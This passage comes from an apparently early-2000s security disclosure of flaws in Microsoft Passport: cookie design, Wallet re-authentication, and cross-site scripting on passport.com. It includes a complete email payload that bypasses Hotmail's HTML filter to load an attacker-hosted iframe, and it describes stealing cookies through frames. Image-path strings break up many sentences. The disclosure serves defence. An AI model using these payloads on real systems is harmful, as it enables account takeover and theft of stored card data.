...continued from Page 1

The Implementation: pre-XP cookie based

When you login to your Passport account, you are directed to a server in the .passport.com domain, to which you authenticate with a user name and password. It then sets a variety of cookies in the passport.com domain. If you are logging into a site using Passport that is not itself passport.com, you are then redirected back to that site in a manner that sets a variety of cookies in that site's domain. You are authenticated to the server via the use of these cookies. Some of these cookies are described in Microsoft's Passport SDK Documentation. Note that this documentation can not be taken entirely at face value, since it is incomplete and misleading in several cases. A few of these cookies are of particular importance for my purposes.

The MSPSec cookie is important since it is the cookie that authenticates you to Passport to implement the single sign on feature, ie. to allow you to betransparently authenticated to other sites that support Passport. Someone needs to obtain this cookie in order to be able to have Passport authenticate them as you to other sites. This cookie is normally set with a /ppsecure path, meaning it will only be sent to URLs on passport.com servers that are under /ppsecure on the particular server. This appears to be intended to be a security feature to limit security exposure of this cookie to reduce the chances of it being stolen. However, as I will describe later, setting a path on a cookie does not add to security at all in the vast majority of situations. This cookie is only set in the "domain authority's domain",ie. passport.com currently.

The other cookie that is important for my purposes is the MSPAuth cookie. This cookie is set individually for each "participant domain" at login time, in addition to being set in the domain authority's domain. This cookie identifies you to the server via the 64-bit Passport Unique ID (PUID) associated with your account. It also contains two timestamps: the time of the "last refresh" of the cookie, and the time of the "last manual sign-in".

Sites that wish to require more restrictive authorization than "they signed into their Passport account atsome time in the past and haven't signed out yet" (especially given the option to allow you to stay signed into your Passport account all the time) can require that the last manual sign-in time isn't longer ago than a specified value. For example, Passport Wallet (which, for all intents and purposes, is just an application using Passport for authentication, except it is in the passport.com domain) requires that the last manual sign-in time is no more than 15 minutes in the past before granting access to use or edit your Passport Wallet (this is a slight oversimplification of what it actually requires; the reality is less stringent than this in some cases).

When you login to Passport, you can select a "keep me logged in" option. If you do, then the cookies that are set are permanent cookies. If you do not, they are session cookies that go away when your browser exits (remember, IE doesn't "exit" just because you close all the IE windows). Either way, most of the cookies remain valid forever regardless of when they expire in your browser, with the following exceptions:

Once you have the cookies required to authenticate you to a participant domain, then pages that do not impose freshness requirements on the ticket will accept those cookies forever with no way, other than the participant domain changing their site-wide key, toinvalidate those cookies if a third party has obtained them.

The Implementation: Passport Wallet

The Passport Wallet is a fairly simple application implemented on top of Passport that stores your credit card and contact information. It is used as a part of "Passport Express Purchase", which merchants can support on their site to allow users to use the information in their wallet to automatically fill out the billing and shipping information when making a purchase.

The Passport Wallet resides in the passport.com domain,and therefore uses the .passport.com cookies to authenticate you. As previously mentioned, when first accessing the Passport Wallet, it requires that you have manually signed-in within the last 15 minutes. This is a sensible restriction designed to stop someone from being able to access yourPassport Wallet by simplyobtaining your cookies, either by physically accessing your machine or using one of any number of other remote exploits. In fact, Microsoft claims that one of the benefits of using Passport Wallet is that your credit card information is not stored locally on your computer, where it is vulnerable to theft, but is instead securely stored on Microsoft servers.

When you are in the process of checking out at a participating merchant, clicking on the Microsoft Express Purchase icon will take you to a Passport server to select what billing and shipping information to send to the merchant. When you submit the form, Passport redirects your browser back to the merchant with the information you selected. Note that despite claims to the contrary by Microsoft's white papers (eg. "The information is encrypted using the key of the participating site, so that only this Passport site can decrypt it using the Passport Manager object. ", from Microsoft Passport: Privacy and Security Overview), this information is only encrypted using SSL, not using the participating site's key, so it can be stolen by a hostile client that has managed to steal the appropriate credentials.

Problems with Passport

There are a couple of particular problems with the Passport design and implementation that will be used to construct my demonstration exploit later on. While these problemsappear minor, they combine to form a significant risk.

Reuse of Cached Authentication Information

Unfortunately, requiring that the user "manually signed in" within the 15 minutes before accessing their Passport Wallet doesn't provide as much security as it may appear at first glance. There are two general areas of concern.

The first issue is that the user may have entered their password, but in no way intended for it to be used to access their Passport Wallet. If, for example, a user enters their password to sign in to Hotmail, they are then allowed access to their Passport Wallet without further authentication for the next 15 minutes! So if someone logs into Hotmail then reads an email sent to them that uses one of a variety of attacks to steal their Passport cookies, that attacker has then effectively stolen that user's Passport Wallet, without the user ever knowing. In general, if I have information that is important enough torequire explicitly manual authentication, then it should require that I authenticate specifically for that purpose, and allow me to know I am doing so, and not allow my previous authentication information to be reused.

The other issue is that a "manual sign in" doesn't actually require that the user enter their password in some cases. For example, if you use the "my Hotmail inbox" feature of MSN Messenger, which gives you direct access to your Hotmail inbox, behind the scenes that acts just as if you had actually entered your password, when in reality it was MSN Messenger that entered it on your behalf. So for 15 minutes after you use the "my Hotmail inbox" feature to sign-in to Hotmail, your Passport Wallet is vulnerable even though you haven't entered your password. There are a lot of features built into MSN Messenger that do this, and may be similar features in other Microsoft products. Windows XP's built-in "passport authentication" has some similar flaws, discussed elsewhere. This is also obviously an issue if a user has physical access to your machine, although if they do then there are many other attacks they cancarry out as well. Update (Nov 4): Microsoft claims that MSN Messenger accesses never counted as a physical authentication in this manner. That appears to be a mostly accurate statement with the servers now deployed, however I am almost certain that when I was testing it earlier it was behaving in the way I describe above. It's possible I'm wrong though. In any case, this doesn't appear to be a problem at this time, although there are still some curious artifacts associated with this feature.

While I use Passport Wallet as the example service, the same problems apply to other services that use Passport.

Passport does not provide sufficient functionality to allow it to be used for authorization to access information of differing security importance because it allows a token granted for one purpose to be used for another. While Microsoft has added the ability to layer a second level of authentication on top of a Passport account (eg. a PIN), I have not seen any sites using this and it is unclear if it is really beneficial. If you need to create separate passwords for every service, then what is the point of a single sign-on feature anyway? If Passport Wallet is supposed to be a good demonstration of how Passport can be used securely, it failsmiserably.

One possible way to help mitigate this issue would be, if the intent is to have a user enter a password explicitly to access a particular feature, to pass an authentication token on to subsequent requests using something such as a hidden form field instead of storing the token in the cookie. Then it is only that sequence of actions that can be compromised, there is no cookie that can be stolen. It is still possible, in some situations, to steal the hidden form field, but it is much more difficult, and it makes it clear to users exactly what they are authenticating for.

Cross Site Scripting Bugs

The various passport.com web sites have a number of Cross Site Scripting vulnerabilities. Because of the fact that the cookies are set for any server in the .passport.com domain, all that is required is that any page on any server in .passport.com have a vulnerability, and all the cookies can be stolen.The /ppsecure path set on the MSPSec cookie doesn't limit the pages that can be used to steal this cookie. One frame in a browser can access the cookies of another frame, if that second frame is from the same server as the first. So all that is required for a page at http://someserver.passport.com/somepath/foo.asp to steal the MSPSec cookie is for it to open another frame with http://someserver.passport.com/ppsecure then access the cookies for that frame with javascript. It doesn't even matter if the page in /ppsecure doesn't exist, since a 404 not found page is just as good as any other for exploiting this.

The reality is that it must be assumed that cookies can be stolen from a user via a somewhat targeted attack against that user. By all means, precautions should be taken to avoid that, such as eliminating cross site scripting holes. However, it is critical to limit the exposure if and when cookies are stolen. Passport does not do this, due to it's use of a ticket with a fixed future expiry date. Passport also increases the risk of stolen cookies due to the fact that they are set for the entire .passport.com domain, and not compartmentalized so that only the pages that really need them can access them.

Example Exploit against a Passport Wallet via Hotmail

Note that thisexample exploit has been tested against IE5.5 and IE6 on Windows 2000 and Windows 98. It should work with other versions of IE, but will sometimes have poor behavior on Windows XP. This doesn't mean XP isn't vulnerable, just that there are some extra complications that change how the situation can exploited. I am not yet confident that I am sufficiently familiar with these complications to craft a reliable exploit on XP.

This demonstration shows how, due to a variety of holes in Passport and related services, I can send an email to a Hotmail user that, if they read it within 15 minutes of logging into Hotmail, will steal all the information from their Passport wallet. The 15 minute limitation isn't all that huge of a limitation, since typical user behavior is logically to logon to Hotmail, then read their mail. They just have to read the message, and don't have to click on any link in it, etc.

I want to make it very clear that Hotmail is just an example of one service (that happens to be the most popular current use of Passport) that can be used in an attack, and the HTML filtering vulnerabilityexploited in Hotmail isn't central to the attack. The particular cross site scripting vulnerability exploited on the passport.com web site isn't central to the attack either. And the fact that the Passport Wallet is what is being accessed isn't really central either; it is just used because it is the most integrated and popular component of Passport that stores information which most people would consider "more confidential". What this exploit is intended to show is that, overall, Passport and it's current implementation has significant security flaws that make it ill-suited to widespread use.

Step One: Hotmail HTML Filtering Hole

There have been lots of holes found in Hotmail's HTML filtering in the past. There will continue to be lots found in the future if Microsoft continues down their current flawed path of trying to code in explicit support for blocking every freak case. Obviously, an exploit like this is enough to allow someone else to access your Hotmail account and do nasty things with it. But that isn't the central point here; the only reason I bother to include the Hotmail hole is since it was so quick to come up with a new exploit, and it makes it more obvious that no user interaction is required to steal the contents of the Passport Wallet. This exploit, as with everything else described in this document, is designed to beused against IE, but exploits are possible for whatever browser you want to pick that supports the features required to use Passport in the first place.

If you send the following email to a Hotmail account:

From: Jennifer Sparks <[email protected]>
To: [email protected]
Content-type: text/html
Subject: Jack said I should email you...

Hi Ted.  Jack said we would really hit it off.  Maybe we can get together
for drinks sometime.  Maybe this friday?  Let me know.

You can see the below for demonstration purposes.  In a real exploit, you
wouldn't even see it happening.
<_img foo="<IFRAME width='80%' height='400' src='http://alive.znep.com/~marcs/passport/grabit.html'></IFRAME>" >

Then when the user reads it, it will load a frame with grabit.html in, which can then continue on with Step Two. This doesn't require the execution of any javascript in the Hotmail message, although the hole lets you do that. Obviously, you could make it so the user doesn't see any of this going on.

Hotmail thinks the "<_img" is part of the start of a HTML tag, so it treats the characters inside that supposed tag as attributes, etc. However, IE doesn't treat any tag starting with whatit considers an invalid character to be a tag at all, so it doesn't treat it as markup at all, and continues on to parse the IFRAME tag.

